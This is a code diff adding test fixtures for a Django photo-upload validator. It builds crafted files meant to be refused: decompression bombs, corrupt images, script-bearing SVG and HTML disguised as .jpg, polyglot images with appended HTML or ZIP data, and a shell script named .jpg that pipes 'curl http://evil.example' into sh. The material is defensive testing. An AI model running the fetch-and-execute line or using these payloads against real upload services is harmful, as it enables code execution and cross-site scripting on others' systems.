@@ -1,11 +1,13 @@
 """Crafted image files and signed-in clients for the photo tests."""
 
 import io
+import os
+import zipfile
 from collections.abc import Callable
 
 import pytest
 from django.test import Client
-from PIL import Image
+from PIL import Image, PngImagePlugin
 
 from accounts.cookies import ACCESS_COOKIE
 from mra_site.aws import cognito
@@ -24,6 +26,71 @@ def image_bytes(
     out = io.BytesIO()
     Image.new(mode, size, color).save(out, format=image_format, **save_options)
     return out.getvalue()
+
+
+def noise_png(side: int) -> bytes:
+    out = io.BytesIO()
+    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(out, format="PNG")
+    return out.getvalue()
+
+
+def zip_bytes() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("payload.html", "<b>hidden</b>")
+    return out.getvalue()
+
+
+def png_with_text(text: str) -> bytes:
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", text)
+    return image_bytes("PNG", pnginfo=info)
+
+
+def crafted_refusals() -> list[tuple[str, bytes, str]]:
+    jpeg = image_bytes("JPEG", size=(64, 48))
+    png = image_bytes("PNG", size=(64, 48))
+    idat = png.find(b"IDAT")
+    return [
+        ("empty", b"", "empty_file"),
+        ("over the byte limit, declared", noise_png(200), "file_too_large"),
+        ("over the byte limit, within the multipart slack", noise_png(120), "file_too_large"),
+        (
+            "decompression bomb",
+            image_bytes("PNG", size=(8000, 6000), mode="1", color=0),
+            "too_many_pixels",
+        ),
+        ("truncated JPEG", jpeg[: len(jpeg) // 2], "corrupt_image"),
+        ("corrupt PNG", png[: idat + 8] + os.urandom(24) + png[idat + 32 :], "corrupt_image"),
+        (
+            "SVG named .jpg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "unsupported_type",
+        ),
+        (
+            "HTML named .jpg",
+            b"<!doctype html><html><script>alert(1)</script></html>",
+            "unsupported_type",
+        ),
+        ("script named .jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "unsupported_type"),
+        ("GIF", image_bytes("GIF"), "unsupported_type"),
+        (
+            "JPEG with HTML appended",
+            jpeg + b"<html><script>alert(1)</script></html>",
+            "not_a_clean_image",
+        ),
+        ("JPEG with a ZIP appended", jpeg + zip_bytes(), "not_a_clean_image"),
+        (
+            "PNG with script in a text chunk",
+            png_with_text("<script>alert(1)</script>"),
+            "not_a_clean_image",
+        ),
+        (
+            "WebP with trailing data",
+            image_bytes("WEBP") + b"PK\x03\x04trailing",
+            "not_a_clean_image",
+        ),
+    ]
 
 
 def upload_file(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg"):
